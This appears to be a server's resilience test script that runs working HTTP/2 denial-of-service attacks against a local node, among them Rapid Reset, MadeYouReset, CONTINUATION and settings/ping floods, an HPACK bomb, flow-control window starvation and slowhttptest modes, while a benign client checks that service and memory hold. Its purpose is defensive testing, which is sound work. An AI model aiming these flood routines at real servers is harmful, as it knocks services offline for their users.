"""Attackers' HTTP/2: frames as no client would send them, with a good client beside them.

    attack.py AUTHORITY HOST PORT PID OTHER TRIAL…
    attack.py AUTHORITY HOST PORT PID OTHER slowhttptest PLAIN_PORT CONNECTIONS SECONDS

Each trial attacks HOST (the probe, at `/`; a static site that lies at `/files`) from 127.0.0.1, while a good client asks
from 127.0.0.2: for HOST's files, and for OTHER, another tenant's app. A trial prints its name and figures when the attack was ended or bounded as it says, every good answer
came, and the node's memory stayed within bounds; otherwise it ends with a traceback.
"""

import http.client
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

import hpack
from h2_client import frames_of
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

SILENCE_SECONDS_MAX = 30
# What the node may grow by in any of these attacks; each could have it grow by gigabytes. A core has no more than 256 MiB of
# large files in memory, and some of what was freed stays with the allocator.
GROWTH_MIB_MAX = 256 * os.cpu_count() + 128
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Closed(Exception):
    """The node closed the connection, or said GOAWAY."""


def connect(where, protocol="h2", source="127.0.0.1", host=None):
    authority, _, port, *_ = where
    context = ssl.create_default_context(cafile=authority)
    context.set_alpn_protocols([protocol])
    plain = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    plain.bind((source, 0))
    plain.settimeout(SILENCE_SECONDS_MAX)
    plain.connect(("127.0.0.1", port))
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(plain, server_hostname=host or where[1])


class Attacker:
    """One HTTP/2 connection that says whatever it likes. A thread takes what comes, unless told not to read."""

    def __init__(self, where, settings=None, reads=True, window=0):
        self.where, self.socket, self.encoder = where, connect(where), hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.frames, self.resets, self.goaway, self.closed, self.data = 0, {}, None, threading.Event(), 0
        self.statuses, self.came = {}, threading.Condition()
        first = [SettingsFrame(0, settings=settings or {})]
        if window:
            first.append(WindowUpdateFrame(0, window_increment=window))
        self.socket.sendall(PREFACE + b"".join(frame.serialize() for frame in first))
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        try:
            for frame in frames_of(self.socket):
                self.take(frame)
        except OSError:
            pass
        self.closed.set()
        with self.came:
            self.came.notify_all()

    def take(self, frame):
        with self.came:
            self.frames += 1
            match frame:
                case RstStreamFrame():
                    self.resets[frame.stream_id] = frame.error_code
                case GoAwayFrame():
                    self.goaway = self.goaway or frame.error_code
                    if frame.error_code:
                        self.closed.set()
                case HeadersFrame():
                    # In order, for the table's sake; a status is never far behind.
                    fields = dict(self.decoder.decode(frame.data))
                    self.statuses[frame.stream_id] = int(fields.get(":status", fields.get(b":status", 0)))
                case DataFrame():
                    self.data += len(frame.data)
            self.came.notify_all()

    def until(self, fact, seconds=SILENCE_SECONDS_MAX):
        """Waits for a fact, or for the end of the connection."""
        with self.came:
            self.came.wait_for(lambda: fact() or self.closed.is_set(), seconds)
            return fact()

    def send(self, *frames):
        if self.closed.is_set():
            raise Closed
        try:
            self.socket.sendall(b"".join(frame if isinstance(frame, bytes) else frame.serialize() for frame in frames))
        except OSError as error:
            raise Closed from error

    def head(self, path="/", method="GET", more=()):
        _, host, port, *_ = self.where
        fields = [(":method", method), (":scheme", "https"), (":authority", f"{host}:{port}"), (":path", path), *more]
        return self.encoder.encode(fields)

    def ask(self, stream, path="/", method="GET", ends=True, more=(), flags=("END_HEADERS",)):
        frame = HeadersFrame(stream, data=self.head(path, method, more))
        for flag in flags:
            frame.flags.add(flag)
        if ends:
            frame.flags.add("END_STREAM")
        return frame

    def repeat(self, frames, times, each=100):
        """Sends what `frames(number)` makes so often, and says how many went before it was stopped."""
        sent = 0
        try:
            while sent < times:
                batch = [frame for number in range(sent, min(sent + each, times)) for frame in frames(number)]
                self.send(*batch)
                sent += each
        except Closed:
            pass
        return sent

    def ended(self, seconds=SILENCE_SECONDS_MAX):
        return self.closed.wait(seconds)


class Good:
    """A visitor from another address, who asks again and again and must be answered each time."""

    def __init__(self, where):
        self.where, self.over, self.answers, self.slowest, self.fault = where, threading.Event(), 0, 0.0, None
        self.thread = threading.Thread(target=self.run)
        self.memory = memory_mib(where[3])
        self.most = self.memory

    def run(self):
        try:
            while True:
                last = self.over.is_set()
                begun = time.monotonic()
                for host, path in ((self.where[4], "/"), (self.where[1], "/files/")):
                    with connect(self.where, "http/1.1", "127.0.0.2", host) as stream:
                        stream.sendall(f"GET {path} HTTP/1.1\r\nhost: {host}:{self.where[2]}\r\n\r\n".encode())
                        answer = http.client.HTTPResponse(stream)
                        answer.begin()
                        assert answer.status == 200 and answer.read(), answer.status
                self.slowest = max(self.slowest, time.monotonic() - begun)
                self.answers += 1
                self.most = max(self.most, memory_mib(self.where[3]))
                if last:
                    return
                time.sleep(0.01)
        except Exception as error:  # told by whoever waits for it
            self.fault = error

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, kind, *_):
        self.over.set()
        self.thread.join()
        if kind is None:
            assert self.fault is None, f"the good client: {self.fault!r}"
            assert self.most - self.memory < GROWTH_MIB_MAX, f"the node grew by {self.most - self.memory} MiB"

    def __str__(self):
        return (
            f"a good client asked {2 * self.answers} times, {1000 * self.slowest:.0f} ms at the most; "
            f"the node grew by {self.most - self.memory} MiB"
        )


def memory_mib(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) // 1024 for line in status if line.startswith("VmRSS:"))


# ---- what makes work ----


def rapid_reset(where):
    """CVE-2023-44487: ask, take it back, ask."""
    told = []
    for path in ("/", "/files/"):
        attacker = Attacker(where)
        reset = lambda n: (attacker.ask(2 * n + 1, path), RstStreamFrame(2 * n + 1, error_code=8))
        sent = attacker.repeat(reset, 50_000, 10)
        assert attacker.ended() and sent < 50_000, f"{path}: {sent} requests were taken back"
        told.append(f"{path} after {sent}")
    return "ended: " + ", ".join(told)


def slow_reset(where):
    """The same, with time enough for each request to be begun."""
    attacker = Attacker(where)
    sent = 0
    try:
        for number in range(5_000):
            attacker.send(attacker.ask(2 * number + 1, "/sleep?ms=1000"))
            if number % 50 == 49:
                ping = PingFrame(0, opaque_data=struct.pack(">Q", number))
                before = attacker.frames
                attacker.send(ping)
                attacker.until(lambda: attacker.frames > before)
                for stream in range(number - 49, number + 1):
                    attacker.send(RstStreamFrame(2 * stream + 1, error_code=8))
            sent += 1
    except Closed:
        pass
    assert attacker.ended() and sent < 2_000, f"{sent} requests were taken back"
    return f"ended after {sent}"


def made_you_reset(where):
    """CVE-2025-8671: have the node itself reset what it was asked."""
    told = []
    for what, fault in {
        "a window of no more": lambda stream: WindowUpdateFrame(stream, window_increment=0),
        "an overfull window": lambda stream: WindowUpdateFrame(stream, window_increment=2**31 - 1),
        "data after the end": lambda stream: DataFrame(stream, data=b"x"),
        "a second head": lambda stream: attacker.ask(stream),
    }.items():
        attacker = Attacker(where)
        raw = lambda stream: (
            # hyperframe won't write an increment of 0.
            b"\x00\x00\x04\x08\x00" + struct.pack(">II", stream, 0) if what == "a window of no more" else fault(stream)
        )
        sent = attacker.repeat(lambda n: (attacker.ask(2 * n + 1, "/sleep?ms=1000"), raw(2 * n + 1)), 20_000, 10)
        assert attacker.ended() and sent < 20_000, f"{what}: {sent} requests were reset"
        told.append(f"{what} after {sent}")
    return "ended: " + ", ".join(told)


def continuation_flood(where):
    """CVE-2024-27316: a head without an end."""
    attacker = Attacker(where)
    attacker.send(attacker.ask(1, flags=()))
    field = attacker.encoder.encode([("x", "y" * 1000)], huffman=False)
    sent = attacker.repeat(lambda n: (ContinuationFrame(1, data=field),), 50_000)
    assert attacker.ended() and sent < 50_000, sent
    empty = Attacker(where)
    empty.send(empty.ask(1, flags=()))
    emptied = empty.repeat(lambda n: (ContinuationFrame(1, data=b""),), 50_000)
    assert empty.ended() and emptied < 50_000, emptied
    return f"ended after {sent} frames, and after {emptied} empty ones"


def settings_flood(where):
    """Each wants an answer, and none is read."""
    return unread(where, SettingsFrame(0, settings={1: 4096}))


def ping_flood(where):
    return unread(where, PingFrame(0, opaque_data=b"12345678"))


def unread(where, frame):
    attacker = Attacker(where, reads=False)
    attacker.socket.settimeout(2)
    batch, sent = frame.serialize() * 1_000, 0
    try:
        while sent < 5_000_000:
            attacker.socket.sendall(batch)
            sent += 1_000
    except OSError:
        pass
    assert sent < 5_000_000, "it read on and on, and kept the answers"
    return f"no more was read after {sent} frames"


def empty_data(where):
    """Frames that hold nothing, and move no window."""
    attacker = Attacker(where)
    attacker.send(attacker.ask(1, "/count", "POST", ends=False))
    sent = attacker.repeat(lambda n: (DataFrame(1, data=b""),), 200_000)
    ended = attacker.closed.is_set()
    return f"{'ended after' if ended else 'let pass:'} {sent} frames"


def tiny_data(where):
    """As many frames as a window holds, for an app that doesn't read them."""
    attacker = Attacker(where)
    sent = 0
    for stream in range(1, 17, 2):
        ask = attacker.ask(stream, "/sleep?ms=3000", "POST", ends=False)
        sent += attacker.repeat(lambda n: (DataFrame(stream, data=b"x") if n else ask,), 65_535)
    return f"{'ended after' if attacker.closed.is_set() else 'let pass:'} {sent} frames"


def hpack_bomb(where):
    """A large field in the table, and a head that names it again and again."""
    attacker = Attacker(where)
    head = attacker.head(more=[("x-bomb", "y" * 3_900)])
    again = attacker.encoder.encode([("x-bomb", "y" * 3_900)])
    assert len(again) <= 2, "it is in the table"
    frame = HeadersFrame(1, data=head + again * 8_000)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    attacker.send(frame)
    refused = attacker.until(lambda: attacker.statuses.get(1) == 431 or 1 in attacker.resets)
    assert refused or attacker.ended(), attacker.statuses
    return f"refused: {attacker.statuses.get(1) or attacker.resets.get(1) or 'closed'}"


def streams(where):
    """One stream more than one may have at once."""
    attacker = Attacker(where)
    attacker.send(*(attacker.ask(2 * number + 1, "/sleep?ms=500") for number in range(200)))
    attacker.until(lambda: len(attacker.statuses) + len(attacker.resets) == 200)
    refused = [stream for stream, code in attacker.resets.items() if code == 7]
    assert len(refused) == 72, (len(refused), attacker.resets)
    return "128 at once were taken, 72 refused"


def zero_window(where):
    """Answers are asked for, and no window is given for them."""
    attackers = [Attacker(where, {4: 0}) for _ in range(20)]
    for attacker in attackers:
        attacker.send(*(attacker.ask(2 * number + 1, f"/files/large{number % 8}.bin") for number in range(100)))
    for attacker in attackers:
        attacker.until(lambda: len(attacker.statuses) >= 100)
    answered = sum(len(attacker.statuses) for attacker in attackers)
    return f"{answered} answers lie ready"


def small_window(where):
    """The same, with a window of one byte: every answer is begun."""
    attackers = [Attacker(where, {4: 1}) for _ in range(20)]
    for attacker in attackers:
        attacker.send(*(attacker.ask(2 * number + 1, f"/files/large{number % 8}.bin") for number in range(100)))
    for attacker in attackers:
        attacker.until(lambda: attacker.data >= 100)
    return f"{sum(attacker.data for attacker in attackers)} answers are begun"


def handshakes(where):
    """Half handshakes that stay, and whole ones that leave."""
    half = []
    for _ in range(500):
        plain = socket.create_connection(("127.0.0.1", where[2]), timeout=SILENCE_SECONDS_MAX)
        plain.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        half.append(plain)
    for _ in range(300):
        connect(where).close()
    return f"{len(half)} half, 300 whole"


SLOW = {
    # Heads that don't end, bodies that don't come, ranges that overlap, answers that nobody reads.
    "H": ["-H", "-t", "GET", "-u", "/"],
    "B": ["-B", "-t", "POST", "-s", "8192", "-u", "/count"],
    "R": ["-R", "-t", "HEAD", "-u", "/files/large0.bin"],
    "X": ["-X", "-t", "GET", "-w", "512", "-y", "1024", "-z", "32", "-k", "3", "-u", "/files/large0.bin"],
}


def slowhttptest(where, plain_port, connections, seconds):
    """Debian's slowhttptest, each of its four modes in turn."""
    told = []
    for mode, arguments in SLOW.items():
        url = f"http://{where[1]}:{plain_port}{arguments[-1]}"
        command = ["slowhttptest", *arguments[:-1], url, "-c", connections, "-r", "1000", "-l", seconds, "-i", "2", "-x", "8"]
        # It would ask a resolver for the host. Of a proxy it knows the address, and a node takes what is said to one.
        command += ["-d", f"127.0.0.1:{plain_port}"]
        with Good(where) as good:
            ran = subprocess.run([str(part) for part in command], capture_output=True, text=True)
        said = re.sub(r"\x1b\[[0-9;]*m", "", ran.stdout + ran.stderr)
        counts = {name: int(count) for name, count in re.findall(r"^(\w+):\s+(\d+)\s*$", said, re.MULTILINE)}
        opened = counts.get("connected", 0) + counts.get("closed", 0) + counts.get("pending", 0)
        assert opened >= int(connections) or "No open connections left" in said, said
        told.append(f"-{mode} with {counts}; {good}")
    return "\n  ".join(told)


TRIALS = [
    rapid_reset,
    slow_reset,
    made_you_reset,
    continuation_flood,
    settings_flood,
    ping_flood,
    empty_data,
    tiny_data,
    hpack_bomb,
    streams,
    zero_window,
    small_window,
    handshakes,
]

if __name__ == "__main__":
    authority, host, port, pid, other, *names = sys.argv[1:]
    where = (authority, host, int(port), int(pid), other)
    known = {trial.__name__: trial for trial in TRIALS}
    if names[:1] == ["slowhttptest"]:
        print("slowhttptest:", slowhttptest(where, *names[1:]), flush=True)
        sys.exit()
    for name in names or known:
        begun = time.monotonic()
        with Good(where) as good:
            ended = known[name](where)
        print(f"{name}: {ended}; {good} ({time.monotonic() - begun:.1f} s)", flush=True)
